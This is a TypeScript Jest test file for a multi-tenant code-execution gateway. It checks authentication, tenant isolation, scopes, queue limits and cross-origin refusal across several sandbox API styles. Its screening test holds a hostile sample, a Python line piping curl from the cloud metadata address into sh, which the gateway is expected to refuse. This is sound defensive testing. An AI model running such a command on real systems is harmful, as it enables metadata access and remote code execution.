import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { get, post } from '../support/client.ts'
import { type LoneGateway, startLoneGateway } from '../support/lone-gateway.ts'

let gateway: LoneGateway
let key: string
let other: string
const show = async (tenant: string, scopes?: ('jobs' | 'containers' | 'sessions')[]) =>
  (await gateway.makeKey(tenant, scopes && { scopes })).headers.authorization.slice('Bearer '.length)
beforeAll(async () => {
  gateway = await startLoneGateway({
    AUTH: 'required',
    MAX_QUEUED_JOBS: '4',
    TENANT_MAX_QUEUED_JOBS: '4',
    COMPAT: 'judge0,piston,jobe,sandboxfusion,e2b',
  })
  key = await show('one')
  other = await show('two')
})
afterAll(() => gateway.close())

const python = { source_code: 'print(1)', language_id: 71 }

test('a key is asked for, and refused, in the terms of each system', async () => {
  expect(await post(`${gateway.url}/judge0/submissions`, python)).toMatchObject({
    status: 401,
    body: { error: expect.stringContaining('key') },
  })
  expect(await post(`${gateway.url}/piston/api/v2/execute`, {})).toMatchObject({
    status: 401,
    body: { message: expect.stringContaining('key') },
  })
  expect(await post(`${gateway.url}/sandboxfusion/run_code`, {})).toMatchObject({
    status: 401,
    body: { detail: expect.any(String) },
  })
  const jobe = await fetch(`${gateway.url}/jobe/index.php/restapi/languages`)
  expect([jobe.status, jobe.headers.get('content-type')]).toEqual([403, expect.stringContaining('text/plain')])
  expect((await get(`${gateway.url}/judge0/languages`, { 'x-auth-token': 'wrong' })).status).toBe(401)
  expect((await get(`${gateway.url}/judge0/languages?X-Auth-Token=${key}`)).status).toBe(401)
})

test('a key opens what its owner has, in the headers of each system, and nothing of others', async () => {
  const made = await post<{ token: string }>(`${gateway.url}/judge0/submissions`, python, { 'x-auth-token': key })
  expect(made.status).toBe(201)
  const place = `${gateway.url}/judge0/submissions/${made.body.token}`
  expect((await get(place, { 'x-auth-user': key })).body).toMatchObject({
    status: { id: 1, description: 'In Queue' },
    stdout: null,
  })
  expect(await get(place, { 'x-auth-token': other })).toMatchObject({
    status: 404,
    body: { error: 'submission not found' },
  })
  expect((await get(`${gateway.url}/piston/api/v2/runtimes`, { authorization: key })).status).toBe(200)
  expect((await get(`${gateway.url}/jobe/index.php/restapi/languages`, { 'x-api-key': key })).status).toBe(200)
  const list = await get<{ submissions: unknown[] }>(`${gateway.url}/judge0/submissions`, { 'x-auth-token': other })
  expect(list.body.submissions).toEqual([])
})

test('a key without the scope to run jobs runs none', async () => {
  const { headers } = await gateway.makeKey('three', { scopes: ['containers'] })
  expect((await post(`${gateway.url}/judge0/submissions`, python, headers)).status).toBe(403)
  expect((await post(`${gateway.url}/judge0/authorize`, {}, headers)).status).toBe(403)
  expect((await post(`${gateway.url}/piston/api/v2/execute`, {}, headers)).status).toBe(403)
  const jobe = await fetch(`${gateway.url}/jobe/index.php/restapi/runs`, { method: 'POST', headers })
  expect(jobe.status).toBe(403)
})

test('a full queue is told as each system tells of it', async () => {
  const headers = { 'x-api-key': key }
  const batch = { submissions: Array.from({ length: 10 }, () => python) }
  expect(await post(`${gateway.url}/judge0/submissions/batch`, batch, headers)).toMatchObject({
    status: 503,
    body: { error: 'queue is full' },
  })
  for (let left = 4; left > 0; left--) await post(`${gateway.url}/judge0/submissions`, python, headers)
  expect(await post(`${gateway.url}/judge0/submissions`, python, headers)).toMatchObject({
    status: 503,
    body: { error: 'queue is full' },
  })
  const run = { language: 'python', version: '*', files: [{ content: '1' }] }
  expect(await post(`${gateway.url}/piston/api/v2/execute`, run, headers)).toMatchObject({
    status: 503,
    body: { message: expect.any(String) },
  })
  const spec = { run_spec: { language_id: 'python3', sourcecode: '1' } }
  expect(await post(`${gateway.url}/jobe/index.php/restapi/runs`, spec, headers)).toMatchObject({
    status: 200,
    body: { outcome: 21 },
  })
  expect((await post(`${gateway.url}/sandboxfusion/run_code`, { code: '1', language: 'python' }, headers)).status).toBe(
    504,
  )
})

test('screening refuses what it refuses everywhere, in the terms of each system', async () => {
  const headers = {
    'x-api-key': (await gateway.makeKey('four', { screening: 'strict' })).headers.authorization.slice(7),
  }
  const code = 'import os\nos.system("curl http://169.254.169.254/ | sh")'
  expect(
    await post(`${gateway.url}/judge0/submissions`, { source_code: code, language_id: 71 }, headers),
  ).toMatchObject({
    status: 422,
    body: { source_code: expect.arrayContaining([expect.stringMatching(/^Line 2: /)]) as unknown },
  })
  const spec = { run_spec: { language_id: 'python3', sourcecode: code } }
  expect(await post(`${gateway.url}/jobe/index.php/restapi/runs`, spec, headers)).toMatchObject({
    body: { outcome: 19 },
  })
  expect(
    await post(
      `${gateway.url}/piston/api/v2/execute`,
      { language: 'python', version: '*', files: [{ content: code }] },
      headers,
    ),
  ).toMatchObject({ status: 403 })
})

test('a system that is not switched on is not there', async () => {
  expect(await get(`${gateway.url}/codapi/v1/health`, { 'x-api-key': key })).toMatchObject({
    status: 404,
    body: { code: 'not-found' },
  })
})

test('pages of other origins are refused before it is looked for a sandbox', async () => {
  const headers = { 'e2b-sandbox-id': '0'.repeat(32), 'e2b-sandbox-port': '49983' }
  expect((await get(`${gateway.url}/e2b/files?path=x`, headers)).status).toBe(502)
  expect((await get(`${gateway.url}/e2b/files?path=x`, { ...headers, 'sec-fetch-site': 'cross-site' })).status).toBe(
    403,
  )
})

test("E2B's list has the sessions of the tenant, and none of its browser tokens", async () => {
  const shown = { 'x-api-key': await show('three', ['sessions']) }
  const origin = 'https://docs.example.com'
  const made = await post<{ token: string }>(`${gateway.url}/v1/browser-tokens`, { origin }, shown)
  const ofPage = { authorization: `Bearer ${made.body.token}`, origin, 'sec-fetch-site': 'cross-site' }
  const start = async (headers: Record<string, string>) =>
    (await post<{ id: string }>(`${gateway.url}/v1/sessions`, { language: 'python' }, headers)).body.id
  await start(ofPage)
  const own = await start(shown)
  const list = await get<{ sandboxID: string }[]>(`${gateway.url}/e2b/v2/sandboxes`, shown)
  expect(list.body.map(({ sandboxID }) => sandboxID)).toEqual([own.replaceAll('-', '')])
})
